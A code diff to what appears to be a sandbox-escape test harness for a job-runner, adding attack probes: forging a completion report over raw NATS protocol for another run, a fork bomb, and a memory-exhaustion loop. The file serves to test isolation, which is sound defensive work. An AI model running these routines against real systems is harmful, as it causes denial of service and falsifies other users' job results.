@@ -132,34 +132,72 @@ def network() -> None:
 
 
 def forge() -> None:
-    """Publish a RunCompleted for another run on the agent's report subject."""
+    """Publish a RunCompleted for another run on the agent's report subject (NATS's own protocol, no client)."""
 
     def publish() -> str:
-        import asyncio
+        try:
+            from runyard.v1.agent_pb2 import AgentReport
+            from runyard.v1.events_pb2 import RunCompleted
 
-        import nats
-
-        from runyard import bus
-        from runyard.v1.agent_pb2 import AgentReport
-        from runyard.v1.events_pb2 import RunCompleted
-
-        async def go() -> str:
-            nc = await nats.connect(
-                target("T_NATS_URL"), connect_timeout=2, max_reconnect_attempts=0, allow_reconnect=False
-            )
             report = AgentReport(
                 agent_id=target("T_AGENT_ID"),
                 run_id=target("T_VICTIM_RUN"),
                 completed=RunCompleted(attempt=1, results_uri="s3://forged/"),
-            )
-            js = nc.jetstream()
-            await js.publish(bus.reports_subject(target("T_AGENT_ID")), report.SerializeToString())
-            await nc.close()
-            return "published a forged RunCompleted"
-
-        return asyncio.run(asyncio.wait_for(go(), 5))
+            ).SerializeToString()
+        except ImportError:
+            report = b"forged"
+        host, port = target("T_NATS_URL").removeprefix("nats://").rsplit(":", 1)
+        subject = f"runyard.reports.{target('T_AGENT_ID')}"
+        with socket.create_connection((host, int(port)), timeout=2) as s:
+            s.settimeout(2)
+            s.recv(4096)  # INFO
+            s.sendall(b'CONNECT {"verbose":false,"pedantic":false}\r\n')
+            s.sendall(f"PUB {subject} {len(report)}\r\n".encode() + report + b"\r\nPING\r\n")
+            answer = s.recv(4096)
+            if b"PONG" not in answer:
+                raise ConnectionError(f"no PONG: {answer[:100]!r}")
+            return f"published a forged RunCompleted on {subject}"
 
     probe("forged_report", publish)
+
+
+def fork_bomb() -> None:
+    """Fork until something stops it (only where a pids limit exists: the container runtime)."""
+
+    def bomb() -> str:
+        children = []
+        try:
+            for _ in range(20000):
+                pid = os.fork()
+                if pid == 0:
+                    import time
+
+                    time.sleep(30)
+                    os._exit(0)
+                children.append(pid)
+        except OSError as e:
+            raise OSError(e.errno, f"fork failed after {len(children)} children: {e.strerror}") from None
+        finally:
+            for pid in children:
+                try:
+                    os.kill(pid, signal.SIGKILL)
+                    os.waitpid(pid, 0)
+                except OSError:
+                    pass
+        return f"forked {len(children)} children"
+
+    probe("fork", bomb)
+
+
+def memory() -> None:
+    """Allocate (and touch) past resources.memory, saying how far it got."""
+    limit_mib = int(target("T_MEMORY_MIB") or 64)
+    held = []
+    for mib in range(1, limit_mib * 4 + 1):
+        held.append(bytearray(1 << 20))  # zero-filled: every page is touched
+        if mib % 16 == 0:
+            print(f"allocated {mib} MiB", flush=True)
+    findings["memory"] = f"SUCCEEDED: allocated {limit_mib * 4} MiB past a {limit_mib} MiB limit"
 
 
 def kill_agent() -> None:
@@ -271,6 +309,8 @@ ATTACKS: dict[str, Callable[[], None]] = {
     "kill_agent": kill_agent,
     "write_outside": write_outside,
     "root": root,
+    "fork_bomb": fork_bomb,
+    "memory": memory,
 }
 
 if __name__ == "__main__":
